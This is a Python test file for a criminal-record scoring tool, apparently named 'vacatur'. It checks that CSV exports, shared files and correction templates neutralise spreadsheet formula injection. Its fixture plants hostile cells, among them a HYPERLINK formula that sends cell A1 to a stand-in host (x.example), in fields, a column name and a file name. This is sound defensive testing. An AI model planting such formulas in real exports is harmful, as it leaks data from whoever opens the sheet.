"""What stands in an export as a formula runs in no spreadsheet, and is lost nowhere."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import polars as pl
import pytest

from tests.security.commands import LAW, Say, saying
from tests.security.planted import HEADER, row, text
from vacatur.cells import as_written, from_spreadsheets, is_formula
from vacatur.errors import ExitCode

FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,'see')"
ATTACKS = (FORMULA, "+1+1", "-1+1", "@SUM(1)", "\uff1d1+1", "'=1", "''=1", "'til")
TEXTS = ("record_id", "person_id", "note", "charge_code", "charge_description", "disposition")


@pytest.fixture
def say(capfd: pytest.CaptureFixture[str]) -> Say:
    return saying(capfd)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Formulas in every text, in the name of a column and in the name of the file."""
    rows = [
        row(n, **dict.fromkeys(TEXTS, f"{attack}{n}"), sentence=attack)
        for n, attack in enumerate(ATTACKS)
    ]
    broken = "=QUARANTINED,too,few\n+QUARANTINED,too,few\n"
    path = tmp_path / "=1+1.csv"
    named = text([*rows, row(90)]).replace(HEADER[-1], "=note", 1)
    path.write_text(named + broken, encoding="utf-8")
    return path


def cells(content: str) -> Iterator[str]:
    for line in csv.reader(io.StringIO(content, newline=""), strict=True):
        yield from line


def formulas(content: str) -> list[str]:
    """The cells that a spreadsheet would run; numbers are none."""
    marked = pl.Series([cell for cell in cells(content) if not is_number(cell)], dtype=pl.String)
    return marked.filter(is_formula(marked) & ~marked.str.starts_with("'")).to_list()


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_search_finds_what_it_is_to_find(hostile: Path) -> None:
    assert len(formulas(hostile.read_text(encoding="utf-8"))) > 5 * len(TEXTS)


def test_no_cell_of_a_result_runs_and_each_is_what_parquet_holds(
    say: Say, hostile: Path, tmp_path: Path
) -> None:
    for form in ("csv", "parquet"):
        out = tmp_path / form
        job = ("score", hostile, *LAW, "--out", out, "--format", form, "--keep-columns", "=note")
        assert say(*job).code == ExitCode.DONE
    tables = sorted(path.stem for path in (tmp_path / "csv").glob("*.csv"))
    assert tables == ["decisions", "people", "quarantine"]
    for table in tables:
        written = tmp_path / "csv" / f"{table}.csv"
        assert formulas(written.read_text(encoding="utf-8")) == []
        back = from_spreadsheets(pl.scan_csv(written, infer_schema=False)).collect()
        whole = pl.read_parquet(tmp_path / "parquet" / f"{table}.parquet")
        assert back.columns == whole.columns
        texts = [name for name, of in whole.schema.items() if of in {pl.String, pl.Categorical}]
        assert back.select(texts).equals(whole.select(pl.col(texts).cast(pl.String)))
    assert "=note" in pl.read_parquet_schema(tmp_path / "parquet" / "decisions.parquet")


def test_what_is_cut_for_readers_or_shared_runs_nowhere(
    say: Say, hostile: Path, tmp_path: Path
) -> None:
    out, shared = tmp_path / "out", tmp_path / "shared"
    readers = ("--columns-for", "court", "--columns-for", "defender")
    job = ("score", hostile, *LAW, "--format", "csv", "--keep-columns", "=note", "--out", out)
    assert say(*job, *readers).code == ExitCode.DONE
    key = ("--key", tmp_path / "key", "--new-key")
    said = say("deidentify", out, "--out", shared, *key, "--keep-columns", "=note")
    assert said.code == ExitCode.DONE, said.err
    tables = [*out.rglob("*.csv"), *shared.rglob("*.csv")]
    assert len(tables) > 5
    for path in tables:
        assert formulas(path.read_text(encoding="utf-8")) == [], path.name


def test_explain_and_databases_read_the_values_back(
    say: Say, hostile: Path, tmp_path: Path
) -> None:
    out, base = tmp_path / "out", tmp_path / "base.db"
    job = ("score", hostile, *LAW, "--out", out, "--format", "csv", "--into", f"sqlite:///{base}")
    assert say(*job).code == ExitCode.DONE
    for attack in (f"{FORMULA}0", "'=15", "''=16", "'til7"):
        assert say("explain", out, attack).code == ExitCode.DONE
    with closing(sqlite3.connect(base)) as opened:
        found = {one for (one,) in opened.execute("SELECT record_id FROM decisions")}
    assert found >= {f"{attack}{n}" for n, attack in enumerate(ATTACKS)}


def test_a_template_that_is_filled_in_names_the_charges_as_written(
    say: Say, hostile: Path, tmp_path: Path
) -> None:
    template, out = tmp_path / "fill.csv", tmp_path / "out"
    said = say("inspect", hostile, *LAW[:2], "--corrections-template", template)
    assert said.code == ExitCode.DONE
    content = template.read_text(encoding="utf-8")
    assert formulas(content) == []
    codes = {as_written(cell) for cell in cells(content)}
    assert codes >= {f"{attack}{n}" for n, attack in enumerate(ATTACKS)}
    header, *lines = csv.reader(io.StringIO(content))
    answered = [dict(zip(header, line, strict=True)) for line in lines]
    filled = io.StringIO()
    writer = csv.DictWriter(filled, header)
    writer.writeheader()
    told = {"statute": "720 ILCS 550/4(a)", "who": "=A1", "when": "2020-01-01", "why": "'=B1"}
    writer.writerows(line | told for line in answered)
    template.write_text(filled.getvalue(), encoding="utf-8")
    job = ("score", hostile, *LAW, "--out", out, "--format", "csv", "--corrections", template)
    assert say(*job).code == ExitCode.DONE
    assert formulas((out / "corrections.csv").read_text(encoding="utf-8")) == []
    decided = from_spreadsheets(pl.scan_csv(out / "decisions.csv", infer_schema=False)).collect()
    corrected = decided.filter(pl.col("record_id").str.contains("=|1|til"))
    assert set(corrected["statute"]) == {"720 ILCS 550/4(a)"}
    said = say("explain", out, f"{FORMULA}0")
    assert "corrected by =A1" in said.out
    assert "why: =B1" in said.out


def test_what_is_printed_as_csv(say: Say, hostile: Path, tmp_path: Path) -> None:
    charges = tmp_path / "charges.csv"
    charges.write_text('=name,charge_code\n-1+1,"=1+1"\n\'=2,VOP\n', encoding="utf-8")
    said = say("resolve", "--file", charges, *LAW[:2], "--format", "csv")
    assert said.code == ExitCode.DONE
    assert said.out.startswith("'=name,charge_code,")
    assert formulas(said.out) == []
    rows = csv.reader(io.StringIO(said.out))
    assert [list(map(as_written, line[:2])) for line in rows] == [
        ["=name", "charge_code"],
        ["-1+1", "=1+1"],
        ["'=2", "VOP"],
    ]
    job = ("packs", "diff", hostile, *LAW, "--against-as-of", "2026-01-01", "--format", "csv")
    said = say(*job, "--out", tmp_path / "diff.csv")
    assert said.code == ExitCode.DONE
    assert formulas(said.out) == formulas((tmp_path / "diff.csv").read_text(encoding="utf-8")) == []
